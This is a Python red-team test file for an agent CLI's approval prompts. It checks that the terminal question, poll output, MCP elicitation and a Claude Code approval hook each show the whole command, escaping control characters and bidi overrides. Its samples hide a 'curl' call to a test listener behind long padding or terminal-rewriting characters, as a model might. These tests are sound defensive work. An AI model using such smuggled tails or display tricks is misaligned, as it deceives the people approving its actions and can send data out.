"""Approvals show everything they approve (C37, issue 27 item 7), as an attacker.

A model hides a tail after a long, harmless-looking start: `pytest -q …
--maxfail=1 <padding>; curl <listener>`. The person must be shown the whole
command — wrapped, never cut — on the terminal question of `zapcli run` (its
own command and a subagent's), in `poll`, in the MCP elicitation and in what
Claude Code's approval hook records; control characters and bidi overrides
are shown escaped, so nothing can rewrite or reorder what the person reads.
Answering no means the listener gets nothing.

Each test asserts what the person is shown (the pty's bytes, the text a
client gets) and the outside effect of the answer (the listener).
"""

from __future__ import annotations

import json
import sys

import anyio
import pytest
from mcp import Client

from tests.cli.test_run_approvals_pty import Terminal
from tests.conftest import Zap, wait_until
from tests.mcp.conftest import server_params, text
from tests.redteam.screen import bash_question
from zapcli.testing import ScriptedServer

KEY = "sk-test-approvals-0123456789"
PAD = " ".join(f"tests/unit/test_module_{i:02d}.py" for i in range(8))  # ~230 characters


def _hidden(listener, marker: str) -> str:
    """A long pytest command with a tail that reaches the listener."""
    return f"pytest -q {PAD} --maxfail=1; curl -s {listener.url}/{marker}"


def _seen(shown: str, command: str) -> bool:
    """Whether the whole command is on screen, however it was wrapped."""
    return "".join(command.split()) in "".join(shown.split())


def _env(zap: Zap, srv: ScriptedServer) -> dict[str, str]:
    return dict(zap.env, OPENAI_BASE_URL=srv.base_url, ZAPCLI_MODEL="scripted",
                OPENAI_API_KEY=KEY, TERM="dumb")


@pytest.mark.timeout(120)
def test_the_runs_own_question_shows_the_whole_command_and_no_runs_nothing(zap: Zap, listener):
    marker = "c37-own"
    command = _hidden(listener, marker)
    with bash_question(zap, marker, command, KEY) as term:
        shown = term.expect(b"[y/n]").decode(errors="replace")
        assert _seen(shown, command), shown
        term.send(b"n\r")
        assert term.finish() == 0
    assert not listener.saw(marker)


@pytest.mark.timeout(120)
def test_a_subagents_question_at_the_run_shows_the_whole_command(zap: Zap, listener):
    marker = "c37-child"
    command = _hidden(listener, marker)
    script = [
        {"match": f"CHILD-{marker}", "turns": [
            {"tool_calls": [{"name": "bash", "arguments": {"command": command}}]},
            {"text": "child finished"}]},
        {"match": f"PARENT-{marker}", "turns": [
            {"tool_calls": [{"name": "subagent", "arguments": {"action": "spawn",
                                                               "task": f"CHILD-{marker} test"}}]},
            {"tool_calls": [{"name": "subagent", "arguments": {"action": "wait"}}]},
            {"text": "parent done"}]}]
    with ScriptedServer(script) as srv:
        term = Terminal([sys.executable, "-m", "zapcli", "run", f"PARENT-{marker}: delegate"],
                        _env(zap, srv), str(zap.cwd))
        shown = term.expect(b"[y/n]").decode(errors="replace")
        assert _seen(shown, command), shown
        term.send(b"n\r")
        assert term.finish() == 0
    assert not listener.saw(marker)


@pytest.mark.timeout(120)
def test_control_characters_and_bidi_overrides_are_shown_escaped(zap: Zap, listener):
    """`\\r` would let the tail overwrite the start of the line; an ESC
    sequence could erase it; U+202E would reverse what follows."""
    marker = "c37-ctl"
    command = (f"echo safe \x1b[2K\r\u202eecho hidden; curl -s {listener.url}/{marker}")
    with bash_question(zap, marker, command, KEY) as term:
        raw = term.expect(b"[y/n]")
        question = raw[raw.rfind(b"echo safe"):]
        term.send(b"n\r")
        assert term.finish() == 0
    assert b"\x1b[2K" not in question and b"\r\xe2\x80\xae" not in question, question
    assert "\u202e".encode() not in question
    shown = question.decode(errors="replace")
    assert "\\x1b[2K" in shown and "\\x0d" in shown and "\\u202e" in shown, shown
    assert _seen(shown, f"curl -s {listener.url}/{marker}")
    assert not listener.saw(marker)


@pytest.mark.timeout(120)
def test_poll_shows_the_whole_command_and_deny_runs_nothing(zap: Zap, listener):
    marker = "c37-poll"
    command = _hidden(listener, marker)
    script = [{"match": f"POLL-{marker}", "turns": [
        {"tool_calls": [{"name": "bash", "arguments": {"command": command}}]},
        {"text": "finished"}]}]
    with ScriptedServer(script) as srv:
        zap.env.update(_env(zap, srv))
        sid = zap("spawn", "--", f"POLL-{marker} test").out.strip()
        wait_until(lambda: zap.status(sid) == "awaiting_approval", 60)
        shown = zap("poll", "--no-wait", sid).out
        listed = zap("list", "--long").out
        doc = zap.json("poll", "--no-wait", sid)["subagents"][0]
        assert zap("deny", sid, "r1").returncode == 0
        zap("wait", sid, "--timeout", "60")
    assert _seen(shown, command), shown
    assert _seen(listed, command), listed
    assert command in json.dumps(doc, ensure_ascii=False)
    assert not listener.saw(marker)


@pytest.mark.timeout(120)
def test_the_mcp_elicitation_carries_the_whole_command(zap: Zap, listener):
    import mcp_types as types

    marker = "c37-mcp"
    command = _hidden(listener, marker)
    asked: list[str] = []

    async def answer(context, params):
        asked.append(params.message)
        return types.ElicitResult(action="decline", content={"reason": "not that"})

    script = [{"match": f"MCP-{marker}", "turns": [
        {"tool_calls": [{"name": "bash", "arguments": {"command": command}}]},
        {"text": "finished"}]}]
    with ScriptedServer(script) as srv:
        zap.env.update(_env(zap, srv))

        async def go() -> str:
            async with Client(server_params(zap), elicitation_callback=answer, mode="legacy") as c:
                sid = (await c.call_tool("spawn", {"task": f"MCP-{marker} test"})).structured_content["id"]
                done = await c.call_tool("wait", {"ids": [sid], "timeout": 50})
                return text(done)
        anyio.run(go)
    assert asked and _seen(asked[0], command), asked
    assert not listener.saw(marker)


@pytest.mark.timeout(120)
def test_claude_codes_approval_hook_records_the_whole_command(zap: Zap, listener):
    """The hook claude calls (`--permission-prompt-tool`): what it records is
    what poll, the run's question and the elicitation show."""
    marker = "c37-hook"
    command = _hidden(listener, marker)
    sid = zap.spawn_sh("sleep 60", timeout=90)
    params = server_params(zap)
    params.args = ["-m", "zapcli.backends.clis.approval_server", "--id", sid]

    async def go() -> None:
        async with Client(params) as c:
            with anyio.move_on_after(60):
                await c.call_tool("approve", {"tool_name": "Bash", "input": {"command": command},
                                              "tool_use_id": "t1"})

    async def decide() -> None:
        async with anyio.create_task_group() as tg:
            tg.start_soon(go)
            await anyio.to_thread.run_sync(lambda: wait_until(
                lambda: zap.status(sid) == "awaiting_approval", 60))
            shown.append(zap("poll", "--no-wait", sid).out)
            await anyio.to_thread.run_sync(lambda: zap("deny", sid, "r1"))

    shown: list[str] = []
    anyio.run(decide)
    zap("kill", sid)
    assert _seen(shown[0], f"Bash: {command}"), shown
    assert not listener.saw(marker)
